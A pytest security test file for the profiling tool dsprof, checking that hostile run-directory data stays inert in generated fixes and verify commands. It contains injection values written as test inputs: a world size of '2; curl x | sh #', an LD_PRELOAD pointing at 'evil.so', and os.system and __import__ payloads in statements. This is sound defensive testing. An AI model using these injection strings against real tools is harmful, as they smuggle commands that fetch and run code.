"""A run directory's names never become a line of code in a fix, nor a word of a verify line.

Real runs of the bundled examples, each picked for the fixes it gets (a module to compile, a
module list to checkpoint, the lines of periodic work, a leaking statement rewritten, host syncs
and a DataLoader by their lines), rewritten by :mod:`tests.security.code_injection` and
analyzed again: the same findings fire, and the payload stays inside a comment or a string
literal of the fix and inside one word of the verify line.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from dsprof.analyzers.memory_leak import _fix as memory_leak_fix
from dsprof.analyzers.registry import analyze
from dsprof.apply.plan import KNOBS
from dsprof.manifest import parse
from dsprof.metrics.gpu.tc_eligibility import alignment_dims
from dsprof.run import load
from dsprof.schema_version import SCHEMA_VERSION
from tests.integration.helpers import dsprof
from tests.security.code_injection import HOSTILE_NAME, PAYLOAD, inject, injected

REPO = Path(__file__).resolve().parents[2]
# example -> a finding whose fix or verify line must carry the hostile text (as data) once
# injected: (its kind, the field, the text); None where no fix names what was rewritten
EXAMPLES = {
    "hand_norm_softmax.py": ("fusion.hand_norm", "fix", PAYLOAD.strip()),
    "periodic_eval.py": ("steps.periodic", "fix", PAYLOAD.strip()),
    "leaky_loss.py": ("memory.leak", "fix", PAYLOAD.strip()),
    "slow_loader.py": ("input.dataloader_wait", "verify", "touch INJECTED #"),
    "sync_in_loop.py": None,
}


@pytest.fixture(scope="module")
def example_runs(tmp_path_factory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("examples")
    out = {}
    for example in EXAMPLES:
        run = base / example.removesuffix(".py")
        res = dsprof("run", "-q", "--no-analyze", "-o", str(run),
                     str(REPO / "examples" / example))
        assert res.code == 0, res.stderr
        load(run)  # ingested here, so that the copy is of its tables
        out[example] = run
    return out


@pytest.mark.parametrize("example", list(EXAMPLES))
def test_names_in_a_run_stay_data_in_every_fix_and_verify_line(example, example_runs, tmp_path):
    # GIVEN a real run, and its copy whose module paths, lines, statements and command line
    # each carry a line break and a line of code, in a directory whose name ends a shell word
    run = example_runs[example]
    hostile = inject(run, tmp_path / HOSTILE_NAME)
    # WHEN both are analyzed
    plain = analyze(load(run), write=False).findings
    found = analyze(load(hostile), write=False).findings
    # THEN the same findings fire on both (the rewrite reached the fixes' inputs)
    assert sorted(f.kind for f in found) == sorted(f.kind for f in plain)
    # AND no fix has the payload start a line of code, no verify line splits it into words
    assert [(f.kind, where) for f in found for where in injected(f)] == []
    # AND the hostile text is there, as data, where this example is picked for
    if EXAMPLES[example] is not None:
        kind, field, text = EXAMPLES[example]
        texts = [getattr(f, field) for f in found if f.kind == kind]
        assert any(text in t for t in texts), texts


def test_a_findings_json_that_sets_other_variables_is_refused_before_anything_runs(
        example_runs, tmp_path):
    # GIVEN a real run whose findings.json (the run directory's, anyone's) has a finding that
    # asks to set LD_PRELOAD besides its knob
    run = tmp_path / "run"
    shutil.copytree(example_runs["slow_loader.py"], run)
    analyze(load(run))
    doc = json.loads((run / "findings.json").read_text())
    (finding,) = [f for f in doc["findings"] if f["kind"] == "input.dataloader_wait"]
    finding["apply"]["LD_PRELOAD"] = str(tmp_path / "evil.so")
    (run / "findings.json").write_text(json.dumps(doc))
    # WHEN it is verified, and applied to a new run
    verify = dsprof("verify", str(run), finding["id"])
    applied = dsprof("run", "--apply", finding["id"], "--baseline", str(run), "-o",
                     str(tmp_path / "new"), str(REPO / "examples" / "slow_loader.py"))
    # THEN both refuse in one line, naming the variable, and nothing was run
    for res in (verify, applied):
        assert res.code == 2, res.stderr
        assert "asks to set LD_PRELOAD, which is not one of dsprof's knobs" in res.stderr
        assert "Traceback" not in res.stderr and res.stderr.count("\n") == 1, res.stderr
    assert not (tmp_path / "new").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


def test_every_knob_an_analyzer_applies_is_one_a_plan_accepts():
    # GIVEN the knobs the analyzers name (an apply key is a literal in their code)
    named = set(re.findall(r'"(DS_[A-Z_]+)"', "".join(
        p.read_text() for p in (REPO / "dsprof" / "analyzers").glob("*.py"))))
    # THEN each is one that `--apply` accepts from a findings.json
    assert named and named <= KNOBS


def test_a_meta_json_world_size_that_is_text_is_no_count():
    # GIVEN a meta.json whose world size is a shell command, a float, or a count
    base = {"schema_version": SCHEMA_VERSION, "source": "run"}
    # THEN only a positive integer is the run's world size (it goes into --nproc-per-node N)
    assert parse({**base, "world_size": "2; curl x | sh #"}).world_size is None
    assert parse({**base, "world_size": 2.0}).world_size is None
    assert parse({**base, "world_size": True}).world_size is None
    assert parse({**base, "world_size": 4}).world_size == 4


@pytest.mark.parametrize("shapes", [
    '[["8\\nimport os  # INJECTED", 12], [12, 16]]', '[[8, 12], "x"]', '[3, [4]]'])
def test_a_trace_shape_that_is_not_a_number_gives_no_tensor_core_dims(shapes):
    # GIVEN an op whose recorded input dims hold text, or are not lists of dims
    # THEN no dims come out to judge (a text dim passed `v % 8` as string formatting and went
    # into the unaligned-dims fix)
    assert alignment_dims("aten::mm", shapes) == {}
    assert alignment_dims("aten::mm", "[[8, 12], [12, 16]]") == {"M": 8, "K": 12, "N": 16}


@pytest.mark.parametrize(("statement", "rewritten"), [
    ("total += loss * x.size(0)", "total += (loss * x.size(0)).item()"),
    ("total = total + loss", "total = total + loss.item()"),
    ("total += __import__('os').system('id')", "total += loss.item()"),
    ("total += os.system(1)", "total += loss.item()"),
    ("total += loss; import os", "total += loss.item()"),
])
def test_a_leaking_statement_is_rewritten_only_when_it_is_plain_arithmetic(statement, rewritten):
    # GIVEN a statement from the run directory that added up a tensor
    fix = memory_leak_fix("total", "train.py:3", statement)
    # THEN the fix rewrites it where it is names, numbers, arithmetic and calls, else names
    # none of it
    assert fix.splitlines()[1].startswith(rewritten), fix


def test_verify_reruns_a_script_named_like_an_option_as_the_script(tmp_path):
    from dsprof.apply.verify import rerun_command
    from dsprof.rundir import RunDir

    # GIVEN a run of a script whose name starts with "-" (as a hostile meta.json may say)
    run = RunDir.create(tmp_path / "run")
    run.write_meta({"source": "run", "status": "finished", "world_size": 1, "cwd": str(tmp_path),
                    "target": {"kind": "script", "name": "--apply", "argv": ["--apply", "x"]}})
    # WHEN verify builds the command that reruns it
    cmd, _, _ = rerun_command(run.path, None, tmp_path / "new")
    # THEN the script's words come after "--": dsprof run reads none of them as its options
    assert cmd[-3:] == ["--", "--apply", "x"]
